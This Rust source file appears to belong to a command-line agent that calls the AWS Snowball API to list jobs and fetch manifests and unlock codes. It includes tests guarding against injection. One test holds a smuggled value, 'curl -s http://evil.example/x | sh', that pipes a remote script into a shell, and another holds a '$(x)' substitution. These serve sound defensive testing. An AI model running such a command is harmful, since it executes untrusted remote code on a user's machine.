//! The operations of the Snowball API that the agent needs.

use std::sync::Arc;
use std::time::{Duration, Instant};

use aws_config::BehaviorVersion;
use aws_config::identity::IdentityCache;
use aws_config::retry::RetryConfig;
use aws_config::stalled_stream_protection::StalledStreamProtectionConfig;
use aws_config::timeout::TimeoutConfig;
use aws_credential_types::provider::SharedCredentialsProvider;
use aws_sdk_snowball::Client;
use aws_sdk_snowball::types::{JobListEntry, JobMetadata};
use time::OffsetDateTime;

use super::chain::Chain;
use super::credentials::{NotedCredentials, Profiles, with_notice};
use super::download::{AttemptFailure, Download};
use super::failure::{CallContext, Refusal, Service};
use super::http::{Clocks, Http, Https, read_timeout, without_secrets};
use super::identity::Sts;
use super::wait::{Wait, tries};
use super::{CloudSettings, ClusterJobs, DescribedJob, FetchedPair, Sink, endpoints, logged};
use crate::error::{Error, Result};
use crate::model::{ClusterId, JobFacts, JobId, JobState, ManifestUrl, Readiness, UnlockCode};
use crate::report::{Event, Notify};
use crate::safety::sanitize::{phrase, sanitize};

/// Jobs asked for at once, the most that the API gives (Snowball API, ListJobs).
pub(super) const PAGE: i32 = 100;

/// How long an error about an unknown job may be held back to find out who asked.
const WHO_ASKED: Duration = Duration::from_secs(5);

/// Addresses of one manifest asked for, one after the other. A new one that is refused like the old is not the cure.
const MAX_ADDRESSES: usize = 3;

/// Downloads in a row that may break off without having brought more than the one before.
const MAX_FRUITLESS: usize = 5;

/// Pages followed. A service that names a next page for ever must not hold the agent for ever.
pub(super) const MAX_PAGES: usize = 100;

/// The client with all that its errors need to be told.
pub(super) struct Api {
    pub(super) client: Client,
    http: Https,
    pub(super) setting: CallContext,
    pub(super) wait: Wait,
    settings: CloudSettings,
    /// Whether another HTTP client can be made from the settings.
    is_ours: bool,
    pub(super) sts: Sts,
    pub(super) found: NotedCredentials,
    pub(super) clocks: Clocks,
}

impl Api {
    /// Sets the client up, with the given credentials or those that the settings lead to; connects to nothing.
    ///
    /// # Errors
    /// [`Error::RegionMissing`], [`Error::SettingInvalid`] for the region, [`Error::ApiNotHttps`].
    pub(super) async fn open(
        settings: &CloudSettings,
        profiles: Profiles,
        http: Http,
        credentials: Option<SharedCredentialsProvider>,
        wait: Wait,
    ) -> Result<Self> {
        let wait = wait.through(http.proxy.clone());
        let profiles = Arc::new(profiles);
        let found = NotedCredentials::default();
        let region = profiles.region(settings.region.as_ref())?.value;
        let credentials = credentials.unwrap_or_else(|| {
            let (http, local_services) = (http.credentials, http.local_services);
            Chain { profiles: &profiles, settings, region: &region, http, local_services, wait: &wait }.provider()
        });
        let config = aws_config::defaults(BehaviorVersion::v2026_01_12())
            .profile_name(profiles.name_for_sdk())
            .profile_files(profiles.for_sdk())
            .region(aws_config::Region::new(region.to_string()))
            .http_client(http.strict.clone())
            .credentials_provider(with_notice(credentials, wait.clone(), &profiles, &found))
            // The default gives up after five seconds, too soon for a credential process that asks for a fingerprint.
            .identity_cache(IdentityCache::lazy().load_timeout(settings.network_timeout * 2).build())
            // One more try at once, which is also how the SDK corrects for a wrong clock. The rest is ours (`Wait::patiently`),
            // which says what it waits for.
            .retry_config(RetryConfig::standard().with_max_attempts(2))
            .timeout_config(
                TimeoutConfig::builder()
                    .read_timeout(read_timeout(settings.network_timeout))
                    // A net below ours (`Wait::attend`), which knows what was waited for and is to win.
                    .operation_timeout(settings.network_timeout * 2)
                    .build(),
            )
            .stalled_stream_protection(
                StalledStreamProtectionConfig::enabled().grace_period(Duration::from_secs(20)).build(),
            )
            .load()
            .await;
        let setting = |service: Service| -> Result<_> {
            let endpoint = endpoints::configured(&profiles, service)?;
            let endpoint_origin = endpoint.as_ref().map(|endpoint| endpoint.origin.to_string());
            let endpoint = endpoint.map(|endpoint| endpoint.value);
            let place = match &endpoint {
                Some(url) => format!("at {}", without_secrets(url).trim_start_matches("https://")),
                None => format!("in {region}"),
            };
            let (region, proxy, profiles) =
                (region.to_string(), http.proxy.as_ref().map(|proxy| proxy.address()), Arc::clone(&profiles));
            let trust = http.trust.clone();
            let refused = endpoint.as_deref().filter(|url| !is_https(url)).map(without_secrets);
            Ok((CallContext { service, region, place, endpoint_origin, proxy, trust, profiles }, endpoint, refused))
        };
        let (ours, endpoint, refused) = setting(Service::Snowball)?;
        if let Some(url) = refused {
            return Err(ours.not_https(url));
        }
        let (of_sts, sts_endpoint, sts_refused) = setting(Service::Sts)?;
        let sts = Sts::new(&config, sts_endpoint, of_sts, sts_refused);
        let mut with_endpoint = aws_sdk_snowball::config::Builder::from(&config);
        if endpoint.is_some() {
            // An address that is configured is called as it stands, as by the AWS CLI: the SDK would refuse it.
            with_endpoint.set_use_fips(Some(false)).set_use_dual_stack(Some(false));
        }
        with_endpoint.set_endpoint_url(endpoint);
        tracing::info!(
            api = ours.place,
            proxy = http.proxy.as_ref().map(|proxy| proxy.address()),
            profile = phrase(profiles.name()),
            "AWS is asked"
        );
        Ok(Self {
            client: Client::from_conf(with_endpoint.build()),
            http: http.download,
            setting: ours,
            wait,
            sts,
            found,
            clocks: http.clocks,
            settings: settings.clone(),
            is_ours: http.is_ours,
        })
    }

    /// See [`Cloud::describe`](super::Cloud::describe).
    pub(super) async fn described(&self, job: &JobId) -> Result<DescribedJob> {
        let work = async {
            let described = self.describe(job.as_str()).await.map_err(|refusal| self.plain(job.as_str(), refusal))?;
            of_single_device(&described.facts).map(|()| described)
        };
        let result = self.wait.run_with_deadline(self.setting.api(), work).await;
        self.with_who_asked(result).await
    }

    /// See [`Cloud::fetch_pair`](super::Cloud::fetch_pair).
    pub(super) async fn fetch_pair(
        &self,
        job: &JobId,
        described: Option<DescribedJob>,
        sink: &mut dyn Sink,
    ) -> Result<FetchedPair> {
        let manifest = self.manifest(job, sink);
        // The manifest first: its two requests are the longest way, so its connection is to be the first to open.
        let pair = async { tokio::try_join!(manifest, self.unlock_code(job)) };
        let describe = async {
            match described {
                Some(described) => Ok(described),
                None => self.describe(job.as_str()).await,
            }
        };
        // DescribeJob is waited for even if a half was refused, since it tells why.
        let work = async {
            let (pair, described) = tokio::join!(pair, describe);
            match (pair, described) {
                (Ok((bytes, code)), Ok(DescribedJob { facts, .. })) => {
                    of_single_device(&facts).map(|()| FetchedPair { facts, code, bytes, nodes: ClusterJobs::default() })
                }
                (Err(Refusal::State | Refusal::Unknown), Ok(described)) => Err(not_released(job, described)),
                (Err(Refusal::Failed(error) | Refusal::Passing(error)), _) => Err(error),
                (_, Err(refusal)) => Err(self.plain(job.as_str(), refusal)),
            }
        };
        let result = self.wait.run_with_deadline(self.setting.api(), work).await;
        self.with_who_asked(result).await
    }

    /// See [`Cloud::jobs`](super::Cloud::jobs).
    pub(super) async fn jobs(&self, notify: &dyn Notify) -> Result<Vec<JobFacts>> {
        let work = async {
            let mut jobs = self.list(notify).await?;
            for job in &mut jobs {
                if job.is_main || !matches!(job.state.readiness(), Readiness::OnItsWay | Readiness::Ready) {
                    continue;
                }
                match self.describe(&job.id).await {
                    Ok(described) => *job = described.facts,
                    // Between the list and here it may have gone; the list's word stands.
                    Err(Refusal::Unknown | Refusal::State) => {}
                    Err(Refusal::Failed(error) | Refusal::Passing(error)) => {
                        notify.notify(Event::Warning(format!("Tracking numbers and clusters are not shown. {error}")));
                        break;
                    }
                }
            }
            Ok(jobs)
        };
        self.wait.run_with_deadline(self.setting.api(), work).await
    }

    async fn list(&self, notify: &dyn Notify) -> Result<Vec<JobFacts>> {
        let mut jobs = Vec::new();
        let mut next = None;
        for _ in 0..MAX_PAGES {
            let page = self.wait.with_retry("ListJobs", async || {
                let started = Instant::now();
                let page = self.client.list_jobs().max_results(PAGE).set_next_token(next.clone()).send().await;
                logged::answer("ListJobs", started, &page);
                page.map_err(|error| self.setting.refusal("ListJobs", &error, &self.wait))
            });
            let page = page.await.map_err(|refusal| match refusal {
                Refusal::Failed(error) | Refusal::Passing(error) => error,
                Refusal::State | Refusal::Unknown => Error::AnswerMalformed { what: "Snowball ListJobs".to_owned() },
            })?;
            jobs.extend(page.job_list_entries.unwrap_or_default().into_iter().filter_map(listed));
            next = page.next_token.filter(|token| !token.is_empty());
            if next.is_none() {
                return Ok(jobs);
            }
        }
        notify.notify(Event::Warning(format!("Only the first {} jobs are shown.", jobs.len())));
        Ok(jobs)
    }

    pub(super) async fn describe(&self, job: &str) -> Result<DescribedJob, Refusal> {
        let answer = self.wait.with_retry("DescribeJob", async || {
            let started = Instant::now();
            let answer = self.client.describe_job().job_id(job).send().await;
            logged::answer("DescribeJob", started, &answer);
            answer.map_err(|error| self.setting.refusal("DescribeJob", &error, &self.wait))
        });
        let answer = answer.await?;
        let missing = |missing: &str| Refusal::Failed(incomplete("DescribeJob", missing));
        let parts: Vec<String> =
            answer.sub_job_metadata.unwrap_or_default().into_iter().filter_map(|part| part.job_id).collect();
        let metadata = answer.job_metadata.ok_or_else(|| missing("JobMetadata"))?;
        let facts = described(job, metadata, !parts.is_empty()).ok_or_else(|| missing("JobState"))?;
        Ok(DescribedJob { facts, parts })
    }

    /// The manifest, whole, in `sink`; gives its length.
    pub(super) async fn manifest(&self, job: &JobId, sink: &mut dyn Sink) -> Result<u64, Refusal> {
        const NAME: &str = "the manifest";
        let mut url = self.manifest_url(job).await?;
        let mut download =
            Download::new(self.http.clone(), self.settings.manifest_limit, &self.setting, &self.wait, sink);
        let (mut addresses, mut fruitless, mut was_damaged) = (1, 0, false);
        let mut backoff = tries();
        loop {
            let before = download.received();
            match download.attempt(&url).await {
                Ok(bytes) => {
                    self.wait.recovered(NAME);
                    return Ok(bytes);
                }
                Err(AttemptFailure::Address(_)) if addresses < MAX_ADDRESSES => {
                    addresses += 1;
                    url = self.manifest_url(job).await?;
                }
                Err(AttemptFailure::Damaged(_)) if !was_damaged => {
                    was_damaged = true;
                    download.restart().map_err(Refusal::Failed)?;
                }
                Err(AttemptFailure::Passing(error)) => {
                    if self.is_ours && matches!(error, Error::ManifestSlow { .. } | Error::ApiTimeout { .. }) {
                        // The pool knows nothing of a connection that has gone silent, and would give it out again.
                        download.go_over(
                            Http::new(&self.settings, self.settings.ca_bundle.as_ref())
                                .map_err(Refusal::Failed)?
                                .download,
                        );
                    }
                    if download.received() > before {
                        (backoff, fruitless) = (tries(), 0);
                    } else if matches!(error, Error::ManifestCut { .. }) {
                        fruitless += 1;
                        if fruitless == MAX_FRUITLESS {
                            return Err(Refusal::Failed(error));
                        }
                    }
                    self.wait.pause(NAME, error, &mut backoff).await.map_err(Refusal::Failed)?;
                }
                Err(
                    AttemptFailure::Address(error) | AttemptFailure::Damaged(error) | AttemptFailure::Failed(error),
                ) => {
                    return Err(Refusal::Failed(error));
                }
            }
        }
    }

    async fn manifest_url(&self, job: &JobId) -> Result<ManifestUrl, Refusal> {
        let answer = self.wait.with_retry("GetJobManifest", async || {
            let started = Instant::now();
            let answer = self.client.get_job_manifest().job_id(job.as_str()).send().await;
            logged::answer("GetJobManifest", started, &answer);
            answer.map_err(|error| self.setting.refusal("GetJobManifest", &error, &self.wait))
        });
        let answer = answer.await?;
        let text = answer.manifest_uri.ok_or_else(|| Refusal::Failed(incomplete("GetJobManifest", "ManifestURI")))?;
        ManifestUrl::take(text).map_err(|no| Refusal::Failed(Error::ManifestUrlBad { why: no.why.to_owned() }))
    }

    pub(super) async fn unlock_code(&self, job: &JobId) -> Result<UnlockCode, Refusal> {
        let answer = self.wait.with_retry("GetJobUnlockCode", async || {
            let started = Instant::now();
            let answer = self.client.get_job_unlock_code().job_id(job.as_str()).send().await;
            logged::answer("GetJobUnlockCode", started, &answer);
            answer.map_err(|error| self.setting.refusal("GetJobUnlockCode", &error, &self.wait))
        });
        let answer = answer.await?;
        let text = answer.unlock_code.ok_or_else(|| Refusal::Failed(incomplete("GetJobUnlockCode", "UnlockCode")))?;
        UnlockCode::take(text).map_err(|no| Refusal::Failed(Error::CodeMalformed { length: no.length }))
    }

    /// Adds to the error about an unknown job who asked for it: it may be another account's. Best effort and brief, since that
    /// error is the one to tell.
    pub(super) async fn with_who_asked<T>(&self, result: Result<T>) -> Result<T> {
        let Err(Error::JobUnknown { job, region, .. }) = result else { return result };
        let asked = self.wait.run_with_limit(WHO_ASKED, self.sts_in_words(), self.ask_identity()).await;
        let asked_as = asked.map_or_else(|_| String::new(), |identity| format!(" (asked as {})", identity.arn));
        Err(Error::JobUnknown { job, region, asked_as })
    }

    /// A refusal of DescribeJob itself.
    pub(super) fn plain(&self, job: &str, refusal: Refusal) -> Error {
        match refusal {
            Refusal::Failed(error) | Refusal::Passing(error) => error,
            Refusal::Unknown => {
                let region = self.setting.region.clone();
                Error::JobUnknown { job: job.to_string(), region, asked_as: String::new() }
            }
            // No operation of the model that describes can answer so.
            Refusal::State => Error::AnswerMalformed { what: "Snowball DescribeJob".to_owned() },
        }
    }
}

/// A node of a cluster has a code and a manifest, which are the cluster's.
fn of_single_device(facts: &JobFacts) -> Result<()> {
    let Some(cluster) = &facts.cluster else { return Ok(()) };
    // Nothing that the service says gets into a line to paste, unless it is an id and nothing else.
    let named = cluster.parse::<ClusterId>().map_or_else(|_| "CID…".to_owned(), |cluster| cluster.to_string());
    Err(Error::JobInCluster { job: facts.id.clone(), cluster: phrase(cluster), named })
}

fn is_https(url: &str) -> bool {
    url.parse::<http::Uri>().is_ok_and(|uri| uri.scheme() == Some(&http::uri::Scheme::HTTPS) && uri.host().is_some())
}

pub(super) fn incomplete(operation: &str, missing: &str) -> Error {
    Error::AnswerIncomplete { what: format!("Snowball {operation}"), missing: missing.to_owned() }
}

/// Why the pair of a job that exists is not given out: the API said no, and the job's state says why.
pub(super) fn not_released(job: &JobId, described: DescribedJob) -> Error {
    let DescribedJob { facts, parts } = described;
    let job = job.to_string();
    if facts.is_main {
        // What is no id is told, and is not there to be pasted.
        let ids = parts.iter().filter_map(|part| part.parse::<JobId>().ok());
        let lines: Vec<String> = ids.map(|part| format!("  snow-onboard run {part} --endpoint 192.0.2.10")).collect();
        let parts = parts.iter().map(|part| phrase(part)).collect::<Vec<_>>().join(", ");
        let lines = if lines.is_empty() { "  snow-onboard jobs".to_owned() } else { lines.join("\n") };
        return Error::JobIsMain { job, parts, lines };
    }
    let mut state = facts.state.in_words().to_owned();
    if let JobState::Other(text) = &facts.state {
        state = format!("{state} (“{}”)", phrase(text));
    }
    if let Some(number) = &facts.tracking_number {
        state = format!("{state} (tracking number {})", phrase(number));
    }
    match facts.state.readiness() {
        Readiness::NotYet | Readiness::OnItsWay => Error::JobNotReady {
            job,
            was: facts.state,
            state,
            wait: "To let the command wait for the delivery, add:\n  --wait".to_owned(),
        },
        Readiness::TooLate => Error::JobTooLate { job, state },
        Readiness::Ready | Readiness::Unknown => Error::JobNotUsable { job, state },
    }
}

/// A text of the service's, sanitized here because it is shown, logged and kept. `None` if nothing is left.
fn said(text: Option<String>) -> Option<String> {
    text.map(|text| sanitize(&text)).filter(|text| !text.is_empty())
}

fn described(asked: &str, job: JobMetadata, is_main: bool) -> Option<JobFacts> {
    let tracking_number = job
        .shipping_details
        .and_then(|shipping| shipping.outbound_shipment)
        .and_then(|shipment| said(shipment.tracking_number));
    Some(JobFacts {
        id: said(job.job_id).unwrap_or_else(|| asked.to_owned()),
        state: JobState::from_api(&sanitize(job.job_state?.as_str())),
        kind: job.job_type.map(|kind| sanitize(kind.as_str())),
        device_type: job.snowball_type.map(|kind| sanitize(kind.as_str())),
        description: said(job.description),
        created: job.creation_date.and_then(moment),
        tracking_number,
        cluster: said(job.cluster_id),
        is_main,
    })
}

/// A line of the list. One without an id can't be named, so it is of no use to anyone.
pub(super) fn listed(job: JobListEntry) -> Option<JobFacts> {
    Some(JobFacts {
        id: said(job.job_id)?,
        state: JobState::from_api(&job.job_state.map_or_else(String::new, |state| sanitize(state.as_str()))),
        kind: job.job_type.map(|kind| sanitize(kind.as_str())),
        device_type: job.snowball_type.map(|kind| sanitize(kind.as_str())),
        description: said(job.description),
        created: job.creation_date.and_then(moment),
        tracking_number: None,
        cluster: None,
        is_main: job.is_master,
    })
}

fn moment(time: aws_smithy_types::DateTime) -> Option<OffsetDateTime> {
    OffsetDateTime::from_unix_timestamp(time.secs()).ok()
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use aws_sdk_snowball::types::{JobState as ApiState, Shipment, ShippingDetails};

    const JOB: &str = "JID123e4567-e89b-12d3-a456-426655440000";

    fn refused(state: &str, tracking: Option<&str>, parts: &[&str]) -> Error {
        let shipment = Shipment::builder().set_tracking_number(tracking.map(str::to_owned)).build();
        let metadata = JobMetadata::builder()
            .job_state(ApiState::from(state))
            .shipping_details(ShippingDetails::builder().outbound_shipment(shipment).build())
            .build();
        let facts = described(JOB, metadata, !parts.is_empty()).unwrap();
        not_released(
            &JOB.parse().unwrap(),
            DescribedJob { facts, parts: parts.iter().map(|&part| part.to_owned()).collect() },
        )
    }

    #[test]
    fn a_refused_pair_is_explained_by_the_state() {
        let Error::JobNotReady { state, .. } = refused("InTransitToCustomer", Some("1Z999"), &[]) else { panic!() };
        assert_eq!(state, "is in transit to you (tracking number 1Z999)");
        let Error::JobTooLate { state, .. } = refused("WithAWS", None, &[]) else { panic!() };
        assert_eq!(state, "is back at AWS");
        let Error::JobNotUsable { state, .. } = refused("Invented\n", None, &[]) else { panic!() };
        assert_eq!(state, "is in a state this version does not know (“Invented”)");
        assert!(matches!(refused("WithCustomer", None, &[]), Error::JobNotUsable { .. }));
        let Error::JobIsMain { parts, lines, .. } = refused("WithCustomer", None, &[JOB, "$(x)"]) else { panic!() };
        assert_eq!(parts, format!("{JOB}, $(x)"));
        assert_eq!(
            lines,
            format!("  snow-onboard run {JOB} --endpoint 192.0.2.10"),
            "nothing else is there to be pasted"
        );
    }

    #[test]
    fn what_the_service_calls_a_cluster_is_no_part_of_a_command() {
        let id = "CID123e4567-e89b-12d3-a456-426655440000";
        for (said, named) in [(id, id), ("CID0; curl -s http://evil.example/x | sh #", "CID…")] {
            let job = JobMetadata::builder().job_state(ApiState::WithCustomer).cluster_id(said).build();
            let hint = of_single_device(&described(JOB, job, false).unwrap()).unwrap_err().report().hint;
            assert!(hint.contains(&format!("snow-onboard run {named} --endpoint")) && !hint.contains("evil"), "{hint}");
        }
    }

    #[test]
    fn facts_are_taken_over_and_a_missing_state_is_noticed() {
        assert!(described(JOB, JobMetadata::builder().build(), false).is_none());
        let job = JobMetadata::builder()
            .job_state(ApiState::WithCustomer)
            .creation_date(aws_smithy_types::DateTime::from_secs(1_475_626_164))
            .cluster_id("CID1")
            .build();
        let facts = described(JOB, job, false).unwrap();
        assert_eq!(
            (facts.id.as_str(), facts.state, facts.cluster.as_deref()),
            (JOB, JobState::WithCustomer, Some("CID1"))
        );
        assert_eq!(facts.created.unwrap().unix_timestamp(), 1_475_626_164);
        assert!(listed(JobListEntry::builder().build()).is_none());
    }

    #[test]
    fn only_whole_https_addresses_are_called() {
        for (url, fine) in [
            ("https://127.0.0.1:1", true),
            ("HTTPS://host.example", true),
            ("http://127.0.0.1", false),
            ("host.example", false),
            ("https://", false),
            ("htps://host.example", false),
        ] {
            assert_eq!(is_https(url), fine, "{url}");
        }
    }
}
